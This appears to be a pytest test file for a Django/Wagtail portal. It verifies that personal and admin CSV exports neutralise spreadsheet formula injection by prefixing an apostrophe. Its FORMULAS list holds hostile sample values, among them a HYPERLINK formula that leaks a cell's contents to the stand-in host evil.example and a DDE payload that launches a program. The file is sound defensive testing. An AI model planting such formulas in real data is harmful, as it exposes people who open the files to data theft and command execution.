"""No CSV the portal writes can run a formula in a spreadsheet (probe of 2026-11).

A name or school beginning with =, +, - or @ was written unchanged to the
person's export.csv and to the admin reports' CSV. Every CSV now goes through
``portal.spreadsheets``; these tests plant such values and read every export.
"""

import csv
import io

import pytest

from django.test import override_settings
from django.urls import reverse

from portal import roles
from portal.spreadsheets import neutralise
from tests.factories import SchoolFactory, StandardPageFactory, UserFactory, build_course
from tests.factories.records import right_answers
from tests.factories.report_data import answer_quiz

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def dangerous(text):
    """The cells a spreadsheet program would read as a formula."""
    return [cell for cell in cells(text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, None, "Ana López", "3-2", "", "O'Brien"])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_the_persons_own_export(client, site_tree, formula):
    course = build_course(site_tree)
    school = SchoolFactory(name=f"{formula} Academy"[:150], code="EVIL")
    person = UserFactory(first_name=formula, last_name="@Pérez", school=school)
    client.force_login(person)
    from pathways.learning import submit_quiz

    submit_quiz(person, course["module"], right_answers(course["module"]), "en")
    text = client.get("/en/account/my-data.csv").content.decode("utf-8")
    assert dangerous(text) == []
    assert f"'{formula} @Pérez" in cells(text)  # the full name
    assert f"'{formula} Academy" in cells(text)  # the school


@pytest.fixture
def staff_client(client, db):
    client.force_login(UserFactory(roles=[roles.FAMILY_ENGAGEMENT_STAFF]))
    return client


@pytest.mark.django_db
@override_settings(PORTAL_SMALL_CELL_THRESHOLD=1)
def test_the_learning_reports_csv(staff_client, site_tree):
    course = build_course(site_tree)
    school = SchoolFactory(name="=1+1 Elementary", code="=CODE")
    answer_quiz(course["module"], right_answers(course["module"]), count=2, school=school)
    response = staff_client.get(reverse("pathways_reports:quiz_by_school") + "?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert "'=1+1 Elementary" in cells(text)
    assert dangerous(text) == []


@pytest.mark.django_db
def test_the_figures_csv(staff_client, site_tree):
    school = SchoolFactory(name="+Plus Academy", code="+PLUS")
    response = staff_client.get(reverse("portal_figures") + f"?school={school.pk}&export=csv")
    assert response.status_code == 200
    text = response.content.decode()
    assert "'+PLUS" in cells(text)
    assert dangerous(text) == []


@pytest.mark.django_db
def test_wagtails_own_reports_csv(client, site_tree):
    """Editors' titles reach Wagtail's own exports (here: site history)."""
    client.force_login(UserFactory(is_superuser=True, is_staff=True, first_name="@Admin"))
    page = StandardPageFactory(parent=site_tree["home"], title="=HYPERLINK(1)", slug="formula")
    page.save_revision(user=UserFactory(first_name="-Editor")).publish()
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert any(cell.startswith("'=HYPERLINK(1)") for cell in cells(text))
    assert dangerous(text) == []
